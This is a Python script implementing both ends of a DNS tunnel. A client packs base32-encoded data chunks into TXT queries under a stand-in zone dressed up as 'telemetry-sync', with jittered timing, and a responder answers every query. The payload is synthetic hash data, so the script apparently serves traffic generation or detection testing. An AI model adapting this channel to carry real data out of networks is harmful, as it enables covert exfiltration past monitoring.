"""tunnel.py carry RESOLVER | answer ADDRESS: a tunnel through DNS, both ends.

carry asks TXT for <28 bytes in base32>.<28 bytes in base32>.<number>.t.telemetry-sync.example;
answer says NOERROR to everything under the name, with a TXT record for such questions.
"""
import base64
import hashlib
import random
import socket
import struct
import sys
import time

ZONE = "t.telemetry-sync.example"
TXT = 16


def wire_name(name: str) -> bytes:
    return b"".join(bytes([len(label)]) + label.encode() for label in name.split(".")) + b"\0"


def carry(resolver: str) -> None:
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.settimeout(3)
    dice = random.Random(20)
    for number in range(120):
        data = hashlib.sha512(f"so lieu {number}".encode()).digest()[:56]
        labels = [base64.b32encode(part).decode().rstrip("=").lower() for part in (data[:28], data[28:])]
        question = wire_name(f"{labels[0]}.{labels[1]}.{number}.{ZONE}")
        head = struct.pack(">HHHHHH", dice.randrange(65536), 0x0100, 1, 0, 0, 0)
        udp.sendto(head + question + struct.pack(">HH", TXT, 1), (resolver, 53))
        udp.recv(4096)
        time.sleep(dice.uniform(0.1, 0.25))


def answer(address: str) -> None:
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind((address, 53))
    while True:
        query, client = udp.recvfrom(4096)
        if len(query) < 17:
            continue
        end = 12
        while end < len(query) and query[end]:
            end += 1 + query[end]
        question = query[12:end + 5]
        kind = struct.unpack(">H", query[end + 1:end + 3])[0]
        body, answers = b"", 0
        if kind == TXT:
            text = base64.b64encode(hashlib.sha256(question).digest())
            body = b"\xc0\x0c" + struct.pack(">HHIH", TXT, 1, 0, len(text) + 1) + bytes([len(text)]) + text
            answers = 1
        udp.sendto(query[:2] + struct.pack(">HHHHH", 0x8400, 1, answers, 0, 0) + question + body, client)


{"carry": carry, "answer": answer}[sys.argv[1]](sys.argv[2])
